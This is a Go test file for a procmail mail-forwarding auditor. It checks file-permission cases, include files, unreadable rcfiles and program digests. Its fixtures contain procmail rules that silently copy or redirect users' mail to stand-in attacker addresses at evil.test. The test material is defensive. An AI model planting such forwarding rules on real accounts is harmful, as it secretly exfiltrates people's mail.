package procmail_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"relayguard/forward"
	"relayguard/forward/files"
	"relayguard/forward/procmail"
)

// unit reads one unit of a plan.
func unit(t testing.TB, h *forward.Host, id string) forward.Reading {
	t.Helper()
	for _, u := range procmail.Plan(t.Context(), h).Units {
		if u.ID == id {
			return u.Read(t.Context())
		}
	}
	t.Fatalf("no unit %q", id)
	return forward.Reading{}
}

func lines(r forward.Reading) []string {
	var all []string
	for _, rule := range r.Rules {
		line := fmt.Sprintf("%s %s %s %s:%d", rule.Owner, rule.Mode, strings.ReplaceAll(rule.Target, forward.Unknown, "?"), rule.Source, rule.Line)
		if rule.Dormant != "" {
			line += " dormant"
		}
		all = append(all, line)
	}
	slices.Sort(all)
	return all
}

// TestRealProcmailIgnoresSuspiciousRcfiles compares, for modes and owners of an
// rcfile and its directory, whether the real procmail reads it.
func TestRealProcmailIgnoresSuspiciousRcfiles(t *testing.T) {
	r := newReal(t)
	if os.Getuid() != 0 {
		if os.Getenv("CI") != "" || os.Getenv("RELAYGUARD_REQUIRE") != "" {
			t.Fatal("needs root: files of several accounts")
		}
		t.Skip("needs root: files of several accounts")
	}
	rc := filepath.Join(r.home, ".procmailrc")
	account := forward.Account{Name: "nobody", UID: 65534, GID: 65534, Home: r.home, Shell: "/bin/sh"}
	h := &forward.Host{Files: files.Local(), Accounts: []forward.Account{account}}
	ignored, read := 0, 0
	for _, c := range []struct {
		uid, gid int
		mode     os.FileMode
		dir      os.FileMode
		dirGID   int
		link     bool
	}{
		{65534, 65534, 0o600, 0o755, 65534, false},
		{65534, 65534, 0o644, 0o700, 65534, false},
		{0, 0, 0o644, 0o755, 65534, false},
		{0, 0, 0o600, 0o755, 65534, false},
		{1, 1, 0o644, 0o755, 65534, false},
		{65534, 65534, 0o664, 0o755, 65534, false},
		{65534, 1, 0o664, 0o755, 65534, false},
		{65534, 65534, 0o666, 0o755, 65534, false},
		{65534, 65534, 0o602, 0o755, 65534, false},
		{65534, 65534, 0o600, 0o777, 65534, false},
		{65534, 65534, 0o600, 0o777 | os.ModeSticky, 65534, false},
		{65534, 65534, 0o600, 0o772, 65534, false},
		{65534, 65534, 0o600, 0o775, 65534, false},
		{65534, 65534, 0o600, 0o775, 1, false},
		{65534, 65534, 0o600, 0o765, 1, false},
		{65534, 65534, 0o200, 0o755, 65534, false},
		{65534, 65534, 0o755, 0o755, 65534, true},
		{1, 65534, 0o755, 0o755, 65534, true},
	} {
		os.Remove(rc)
		file := rc
		if c.link {
			file = filepath.Join(r.dir, "elsewhere")
			if err := os.Symlink(file, rc); err != nil {
				t.Fatal(err)
			}
		}
		r.write(t, file, ":0\n! evil@evil.test\n", 0o600)
		for _, err := range []error{os.Chown(file, c.uid, c.gid), os.Chmod(file, c.mode), os.Chown(r.home, 65534, c.dirGID), os.Chmod(r.home, c.dir)} {
			if err != nil {
				t.Fatal(err)
			}
		}
		got := len(r.run(t)) > 0
		reading := unit(t, h, "procmail nobody")
		inForce := slices.ContainsFunc(reading.Rules, func(rule forward.Rule) bool { return rule.Dormant == "" && rule.Target == "evil@evil.test" })
		if got != inForce || len(reading.Rules) == 0 {
			t.Errorf("%+v: procmail reads it: %t; told: %q %v", c, got, lines(reading), reading.Gaps)
		}
		if got {
			read++
		} else {
			ignored++
		}
	}
	if read < 3 || ignored < 3 {
		t.Errorf("%d read, %d ignored", read, ignored)
	}
}

// tree makes a root with files in it, and a host that looks at it.
func tree(t testing.TB, contents map[string]string, names ...string) *forward.Host {
	t.Helper()
	root := t.TempDir()
	h := &forward.Host{Hostname: "mail.corp.test"}
	for _, name := range names {
		h.Accounts = append(h.Accounts, forward.Account{Name: name, UID: os.Getuid(), GID: os.Getgid(), Home: "/home/" + name, Shell: "/bin/sh"})
		if err := os.MkdirAll(filepath.Join(root, "home", name), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range contents {
		file := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	rooted, err := files.Rooted(root)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { rooted.Close() })
	h.Files = rooted
	return h
}

func TestServerRcfileIsEverybodys(t *testing.T) {
	h := tree(t, map[string]string{
		"etc/procmailrc":          "FWD=a@evil.test\nINCLUDERC=/etc/common.rc\nINCLUDERC=$HOME/.extra\n:0 c\n! $LOGNAME@evil.test\n",
		"etc/common.rc":           ":0 c\n! all@evil.test\n",
		"home/alice/.procmailrc":  ":0\n! $FWD\n",
		"home/bob/.extra":         ":0 c\n! bob@evil.test\n",
		"home/carol/.procmailrc":  "INCLUDERC=.procmail/x\n",
		"home/carol/.procmail/x":  ":0\n! carol@evil.test\n",
		"home/dave/.procmailrc/x": "a directory",
	}, "alice", "bob", "carol", "dave", "erin")
	for id, want := range map[string][]string{
		"procmail /etc/procmailrc": {"* copy ?@evil.test /etc/procmailrc:5", "* copy all@evil.test /etc/common.rc:2"},
		"procmail alice":           {"alice redirect a@evil.test /home/alice/.procmailrc:2"},
		"procmail bob":             {"bob copy bob@evil.test /home/bob/.extra:2"},
		"procmail carol":           {"carol redirect carol@evil.test /home/carol/.procmail/x:2"},
		"procmail dave":            nil,
		"procmail erin":            nil,
	} {
		reading := unit(t, h, id)
		if got := lines(reading); !slices.Equal(got, want) || len(reading.Gaps) > 0 {
			t.Errorf("%s: got %q %v, want %q", id, got, reading.Gaps, want)
		}
	}
	plan := procmail.Plan(t.Context(), h)
	if !slices.Contains(plan.Uses, "/etc/procmailrc") || !slices.Contains(plan.Uses, "/etc/common.rc") {
		t.Errorf("the plan uses %q", plan.Uses)
	}
	for _, id := range []string{"procmail bob", "procmail erin"} {
		at := slices.IndexFunc(plan.Units, func(u forward.Unit) bool { return u.ID == id })
		u := plan.Units[at]
		name := strings.TrimPrefix(id, "procmail ")
		if !slices.Contains(append(u.Paths, u.Read(t.Context()).Uses...), "/home/"+name+"/.extra") || u.Owner != name || u.Server {
			t.Errorf("%s: paths %q", id, u.Paths)
		}
	}
}

func TestWhatCannotBeReadIsAsked(t *testing.T) {
	h := tree(t, map[string]string{
		"home/alice/.procmailrc": "INCLUDERC=`uname -n`.rc\n",
		"home/bob/.procmailrc":   strings.Repeat("#", 5<<20),
		"home/carol/.procmailrc": "SWITCHRC=$HOME/.procmailrc\n",
	}, "alice", "bob", "carol", "dave")
	for _, name := range []string{"alice", "bob", "carol"} {
		reading := unit(t, h, "procmail "+name)
		asked := slices.ContainsFunc(reading.Rules, func(r forward.Rule) bool { return r.Kind == forward.Asked && r.Dormant == "" })
		if !asked || len(reading.Gaps) == 0 {
			t.Errorf("%s: %+v", name, reading)
		}
	}
}

func TestFIFOIsNotWaitedFor(t *testing.T) {
	root := t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, "home/alice"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(root, "home/alice/.procmailrc"), 0o600); err != nil {
		t.Fatal(err)
	}
	rooted, err := files.Rooted(root)
	if err != nil {
		t.Fatal(err)
	}
	defer rooted.Close()
	h := &forward.Host{Files: rooted, Accounts: []forward.Account{{Name: "alice", UID: os.Getuid(), Home: "/home/alice"}}}
	reading := unit(t, h, "procmail alice")
	if len(reading.Rules) != 1 || reading.Rules[0].Kind != forward.Asked {
		t.Errorf("%+v", reading)
	}
}

func TestProgramsHaveDigests(t *testing.T) {
	h := tree(t, map[string]string{
		"home/alice/.procmailrc": ":0 c\n| $HOME/bin/send x\n:0 c\n| send y\n:0 fw\n| /usr/bin/formail -A x\n",
		"home/alice/bin/send":    "#!/bin/sh\n",
	}, "alice")
	digests := func() []string {
		var sums []string
		for _, rule := range unit(t, h, "procmail alice").Rules {
			if rule.Kind == forward.Program {
				sums = append(sums, rule.Digest)
			}
		}
		return sums
	}
	before := digests()
	rewrite(t, h, "/home/alice/bin/send")
	after := digests()
	if len(before) != 2 || len(after) != 2 || before[0] == after[0] || before[1] == after[1] || before[0] == "" {
		t.Errorf("before %q, after %q", before, after)
	}
	uses := unit(t, h, "procmail alice").Uses
	if !slices.Contains(uses, "/home/alice/bin/send") {
		t.Errorf("uses %q", uses)
	}
}

// rewrite puts other content under the host's files.
func rewrite(t *testing.T, h *forward.Host, name string) {
	t.Helper()
	h.Files = changed{h.Files, name}
}

type changed struct {
	forward.Files
	name string
}

func (c changed) Read(ctx context.Context, name string, o forward.ReadOptions) ([]byte, forward.Info, error) {
	data, info, err := c.Files.Read(ctx, name, o)
	if name == c.name {
		data = append(data, "changed"...)
	}
	return data, info, err
}

func BenchmarkHomesWithoutRcfile(b *testing.B) {
	h := &forward.Host{Files: files.Local()}
	for n := range 50_000 {
		h.Accounts = append(h.Accounts, forward.Account{Name: fmt.Sprint("user", n), UID: n + 1000, Home: fmt.Sprint("/nonexistent/user", n)})
	}
	for b.Loop() {
		for _, u := range procmail.Plan(b.Context(), h).Units {
			u.Read(b.Context())
		}
	}
}
